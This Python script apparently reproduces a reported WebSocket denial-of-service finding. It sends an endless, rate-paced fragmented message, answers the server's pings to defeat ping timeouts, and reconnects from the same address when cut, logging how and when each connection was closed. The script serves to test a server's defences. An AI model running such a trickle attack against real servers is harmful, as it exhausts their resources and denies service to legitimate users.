# One endless fragmented message from one address, paced, answering the server's
# pings (so Deno's ping timeout never ends it), reconnecting from the same
# address when cut: stranger17's F6 as a repeat attacker.
# usage: trickle.py PORT SRC CHUNK_BYTES RATE_BYTES_PER_S SECONDS
import os, asyncio, sys, time, json, struct
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from wslib import *
port, src = int(sys.argv[1]), sys.argv[2]
chunk, rate, secs = [int(x) for x in sys.argv[3:6]]
stats = {'tries': [], 'bytes': 0}

async def reader(r, w, seen):
    try:
        while True:
            op, data = await read_frame(r)
            if op == 9:
                w.write(frame(10, data)); await w.drain()
            elif op == 8 and seen['close'] is None:
                seen['close'] = struct.unpack('>H', data[:2])[0] if len(data) >= 2 else 1005
                seen['closeAt'] = round(time.time() - seen['t0'], 2)
    except Exception:
        pass
    seen['ended'] = True

async def main():
    t0 = time.time()
    payload = b'A' * chunk
    while time.time() - t0 < secs:
        try:
            r, w, status, head = await connect(port, src)
        except Exception as e:
            stats['tries'].append({'status': 0, 'error': str(e)[:80]}); await asyncio.sleep(0.5); continue
        try_ = {'status': status, 'at': round(time.time() - t0, 2)}
        stats['tries'].append(try_)
        if status != 101:
            w.close(); await asyncio.sleep(1); continue
        seen = {'close': None, 'ended': False, 't0': time.time()}
        task = asyncio.create_task(reader(r, w, seen))
        sent = 0; start = time.time(); op = 2
        try:
            while time.time() - t0 < secs and not seen['ended']:
                w.write(frame(op, payload, fin=False)); await w.drain()
                op = 0; sent += chunk; stats['bytes'] += chunk
                await asyncio.sleep(max(0, start + sent / rate - time.time()))
        except Exception:
            pass
        try_.update({'sent': sent, 'secs': round(time.time() - start, 2), 'close': seen['close'],
                     'closeAt': seen.get('closeAt'), 'cut': seen['ended']})
        task.cancel()
        try: w.close()
        except Exception: pass
    print(json.dumps(stats), flush=True)

asyncio.run(main())
